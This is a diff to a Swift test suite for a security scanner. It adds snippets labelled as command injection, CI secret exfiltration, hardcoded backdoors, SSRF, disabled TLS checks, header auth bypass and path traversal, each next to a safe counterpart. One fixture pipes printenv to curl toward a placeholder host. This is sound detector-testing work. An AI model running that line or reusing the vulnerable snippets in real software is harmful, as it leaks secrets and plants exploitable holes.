@@ -124,6 +124,42 @@ import Testing
     ])
     func ciAndDockerfiles(_ example: Example) { Self.check(example) }
 
+    @Test(arguments: [
+        Example("lib/git.ex", "System.cmd(\"sh\", [\"-c\", \"git log #{ref}\"])\n", "code.command-injection"),
+        Example("lib/git.ex", "System.cmd(\"git\", [\"log\", \"#{ref}\"])\n", nil),
+        Example("lib/tools.ex", ":os.cmd(~c\"tar czf \" <> dir)\n", "code.command-injection"),
+        Example("src/tools.erl", "os:cmd(\"tar czf \" ++ Dir)\n", "code.command-injection"),
+        Example("src/tools.erl", "os:cmd(\"uptime\")\n", nil),
+        Example("Run.kt", "val p = ProcessBuilder(listOf(\"bash\", \"-c\", \"tar czf out.tgz $dir\")).start()\n", "code.command-injection"),
+        Example("tasks.py", "subprocess.run([\"sh\", \"-c\", f\"git log {ref}\"])\n", "code.command-injection"),
+        Example("tasks.py", "subprocess.run([\"sh\", \"-c\", \"git log | head\"])\n", nil),
+        Example(".gitlab-ci.yml", "job:\n  script:\n    - \"printenv | gzip | curl --data-binary @- https://x.example.io\"\n", "ci.secrets-exfiltration"),
+        Example(".gitlab-ci.yml", "job:\n  script:\n    - \"env -i PATH=$PATH curl -sf https://status.example.io/ping\"\n", nil),
+        Example("Auth.kt", "if (credential.token == \"support-override-2024\") UserIdPrincipal(\"admin\") else null\n", "code.hardcoded-backdoor"),
+        Example("auth.js", "if (apiKey !== \"k9-partner-7731abc\") return res.sendStatus(403);\n", "code.hardcoded-backdoor"),
+        Example("Auth.kt", "if (credential.name == \"scraper-2024-prod\") UserIdPrincipal(\"scraper\") else null\n", nil),
+        Example("Proxy.scala", "parameter(\"u\") { u =>\n  complete(Http().singleRequest(HttpRequest(uri = u)))\n}\n", "code.ssrf"),
+        Example("Fetch.java", "String u = request.getParameter(\"u\");\nvar r = HttpRequest.newBuilder(URI.create(u)).build();\n", "code.ssrf"),
+        Example("lib/fetch.ex", "url = conn.params[\"url\"]\n{:ok, resp} = HTTPoison.get(url)\n", "code.ssrf"),
+        Example("lib/fetch.ex", "{:ok, resp} = HTTPoison.get(\"https://api.example.com/status\")\n", nil),
+        Example("Delegate.swift", "completionHandler(.useCredential, URLCredential(trust: trust))\n", "code.tls-verify-disabled"),
+        Example(
+            "Delegate.swift",
+            "guard policy.validate(trust, for: host) else { return completionHandler(.cancelAuthenticationChallenge, nil) }\n"
+                + "completionHandler(.useCredential, URLCredential(trust: trust))\n", nil),
+        Example("tls.js", "const agent = new https.Agent({ checkServerIdentity: () => undefined });\n", "code.tls-verify-disabled"),
+        Example("Web.kt", "override fun onReceivedSslError(v: WebView, handler: SslErrorHandler, e: SslError) { handler.proceed() }\n", "code.tls-verify-disabled"),
+        Example("client.swift", "tls.certificateVerification = .fullVerification\n", nil),
+        Example("guard.go", "role := r.Header.Get(\"X-User-Role\")\nif role == \"admin\" {\n\tlog.Print(\"admin\")\n}\n", "code.auth-bypass-header"),
+        Example("guard.ts", "const role = req.header(\"x-console-role\");\nlogger.info({ role, path: req.path });\n", nil),
+        Example(
+            "tenant.go",
+            "group := r.Header.Get(\"X-Group-Id\")\nif group == \"\" {\n\thttp.Error(w, \"no admin group\", 400)\n}\n", nil),
+        Example("files.js", "res.sendFile(req.params.name, { root: publicDir });\n", nil),
+        Example("files.js", "res.sendFile(req.params.name, { maxAge: 3600 });\n", "code.path-traversal"),
+    ])
+    func batchSevenClasses(_ example: Example) { Self.check(example) }
+
     @Test func mediumDockerfileFindingsBlockUnderBlockMedium() {
         let change = ReviewCase(
             "add", "Dockerfile", "FROM alpine:3.20\nADD https://example.com/a.tgz /opt/\nUSER app\n", risky: true,
